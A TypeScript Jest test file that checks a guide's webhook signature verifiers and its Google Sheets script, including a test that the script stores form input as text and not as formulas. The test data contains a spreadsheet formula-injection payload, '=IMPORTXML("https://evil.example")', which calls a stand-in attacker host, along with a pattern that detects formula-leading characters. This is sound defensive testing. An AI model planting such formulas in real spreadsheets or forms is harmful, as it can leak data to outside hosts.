import { runInNewContext } from 'node:vm';
import { describe, expect, test } from '@jest/globals';
import { newWebhookSecret, signatureOf } from '../../../shared/deliveries/channels/webhook/signatures.ts';
import { sheets } from '../../../shared/messages/formats/sheets.ts';
import { exampleText } from '../../../site/guide/examples.ts';
import { eventWith } from '../../support/samples/formEvents.ts';
import { type SignedRequest, VERIFIERS } from '../../support/site/webhookVerifiers.ts';

const nowSeconds = () => Math.floor(Date.now() / 1_000);

function givenRequest(
  body: string,
  { secrets = [newWebhookSecret()], id = 'msg_1', timestamp = nowSeconds() } = {},
): SignedRequest {
  const headers = {
    'webhook-id': id,
    'webhook-timestamp': String(timestamp),
    'webhook-signature': signatureOf({ id, timestamp, body, secrets }),
  };
  return { secret: secrets[0] ?? '', headers, body };
}

const withHeader = (request: SignedRequest, name: string, value: string): SignedRequest => ({
  ...request,
  headers: { ...request.headers, [name]: value },
});

const body = JSON.stringify({ type: 'submission.created', data: { name: 'Zoë 😀' } });
const request = givenRequest(body);
const rotated = givenRequest(body, { secrets: [newWebhookSecret(), newWebhookSecret()] });
const signature = request.headers['webhook-signature'] ?? '';

const REQUESTS: [what: string, request: SignedRequest, isGenuine: boolean][] = [
  ['one of the service', request, true],
  ['one with an empty body', givenRequest(''), true],
  ['one of 200 kB', givenRequest('x'.repeat(200_000)), true],
  ['one with two signatures', rotated, true],
  ['one whose second signature is right', withHeader(request, 'webhook-signature', `v1,AAAA ${signature}`), true],
  ['one of four minutes ago', givenRequest(body, { timestamp: nowSeconds() - 240 }), true],
  ['one of six minutes ago', givenRequest(body, { timestamp: nowSeconds() - 360 }), false],
  ['one of the future', givenRequest(body, { timestamp: nowSeconds() + 360 }), false],
  ['one without a time', withHeader(request, 'webhook-timestamp', ''), false],
  ['one with another time', withHeader(request, 'webhook-timestamp', String(nowSeconds() - 7)), false],
  ['one with a time that is no number', withHeader(request, 'webhook-timestamp', 'now'), false],
  ['one with another id', withHeader(request, 'webhook-id', 'msg_2'), false],
  ['one with another body', { ...request, body: `${body} ` }, false],
  ['one of another secret', { ...request, secret: newWebhookSecret() }, false],
  ['one without a signature', withHeader(request, 'webhook-signature', ''), false],
  ['one with a signature that is none', withHeader(request, 'webhook-signature', 'v1,é v1 , v1,'), false],
  ['one of another version', withHeader(request, 'webhook-signature', signature.replace('v1,', 'v1a,')), false],
  ['one with part of the signature', withHeader(request, 'webhook-signature', signature.slice(0, -4)), false],
];

describe('the guide’s way to verify a webhook', () => {
  test.each(VERIFIERS)(
    'in $language accepts only genuine requests',
    async ({ language, isHere, verify }) => {
      if (!isHere) {
        console.warn(`Not run: the guide’s example in ${language}, which this machine does not have.`);
        return;
      }
      const verdicts = await verify(REQUESTS.map(([, each]) => each));
      expect(REQUESTS.map(([what], place) => [what, verdicts[place]])).toEqual(
        REQUESTS.map(([what, , isGenuine]) => [what, isGenuine]),
      );
      // Go compiles parts of its library on the first run.
    },
    120_000,
  );
});

describe('the guide’s script for Google Sheets', () => {
  test('adds a row for each submission, with a column for each field, and no formula', () => {
    const { doPost, cells } = spreadsheet();
    const hostile = { email: 'ada@example.com', message: '=IMPORTXML("https://evil.example")', '=name': '+1' };
    const first = sheets.write(eventWith(hostile)).body;
    expect([doPost(first), doPost(first)]).toEqual(['added', 'known']);
    const second = { id: 'sub_2', topics: ['a', 'b'], message: 'Hi', age: 42, id_: true };
    const { id, ...fields } = second;
    expect(doPost(sheets.write(eventWith(fields, { id })).body)).toBe('added');
    const at = '2026-11-24T08:30:00.000Z';
    expect(cells()).toEqual([
      ['id', 'submitted', 'email', 'message', '=name', 'topics', 'age', 'id_'],
      ['sub_01JD0B6E1F7Q3W9KXN5T2RAH8D', at, 'ada@example.com', '=IMPORTXML("https://evil.example")', '+1'],
      ['sub_2', at, '', 'Hi', '', 'a, b', 42, true],
    ]);
  });

  test('keeps leading zeros, and names and values that look like dates, numbers or booleans', () => {
    const { doPost, cells } = spreadsheet();
    const data = { '007': '0049', '1/2': '1/2', '12%': '1e3', true: 'TRUE', "'90s": "'tis" };
    for (const id of ['sub_1', 'sub_2']) doPost(sheets.write(eventWith(data, { id })).body);
    expect(cells().map((row) => row.slice(2))).toEqual([Object.keys(data), Object.values(data), Object.values(data)]);
  });

  test('adds a row for a test, but none for other events', () => {
    const { doPost, cells } = spreadsheet();
    expect(doPost(sheets.write(eventWith({}, { type: 'webhook.test' })).body)).toBe('added');
    expect(doPost(sheets.write(eventWith({ a: 1 }, { type: 'submission.updated' })).body)).toBe('ignored');
    expect(doPost(sheets.write(eventWith({ a: 1 }, { type: 'submission.deleted' })).body)).toBe('ignored');
    expect(cells().map(([first]) => first)).toEqual(['id', 'test']);
  });

  test('has at most 100 columns, for any names', () => {
    const { doPost, cells } = spreadsheet();
    for (const round of [1, 2]) {
      const data = Object.fromEntries(Array.from({ length: 200 }, (_, place) => [`${round}-${place}`, place]));
      doPost(sheets.write(eventWith(data, { id: `sub_${round}` })).body);
    }
    const [names, first, second] = cells();
    expect(names).toHaveLength(100);
    expect(names?.at(-1)).toBe('more');
    expect(Object.keys(JSON.parse(String(first?.at(-1))))).toHaveLength(103);
    expect(Object.keys(JSON.parse(String(second?.at(-1))))).toHaveLength(200);
  });
});

/** The Google script with a stand-in for the spreadsheet, which parses a text as if it were typed, unless it starts with an apostrophe. */
function spreadsheet() {
  const rows: unknown[][] = [];
  const typed = (value: unknown) => {
    if (typeof value !== 'string') return value;
    if (value.startsWith("'")) return value.slice(1);
    if (/^[=+\-@\t\r]/.test(value)) throw new Error(`A formula got in: ${value}`);
    if (/^(?:true|false)$/i.test(value)) return /^true$/i.test(value);
    if (/^\d+\/\d+$/.test(value)) return new Date(2026, Number.parseInt(value, 10) - 1);
    return /^[\d.]+(?:e\d+)?%?$/i.test(value) ? Number.parseFloat(value) : value;
  };
  const sheet = {
    getLastColumn: () => rows[0]?.length ?? 0,
    getRange: () => ({
      getValues: () => [rows[0] ?? ['']],
      setValues: ([names = []]: unknown[][]) => rows.splice(0, 1, names.map(typed)),
    }),
    createTextFinder: (text: string) => ({
      matchEntireCell: () => ({ findNext: () => rows.flat().find((cell) => cell === text) ?? null }),
    }),
    appendRow: (row: unknown[]) => rows.push(row.map(typed)),
  };
  const context = {
    SpreadsheetApp: { getActive: () => ({ getSheets: () => [sheet] }) },
    LockService: { getScriptLock: () => ({ waitLock: () => undefined, releaseLock: () => undefined }) },
    ContentService: { createTextOutput: (text: string) => text },
  };
  const doPost = (contents: string): string =>
    runInNewContext(`${exampleText('spreadsheet.js')}; doPost(${JSON.stringify({ postData: { contents } })})`, {
      ...context,
    });
  return { doPost, cells: () => rows };
}
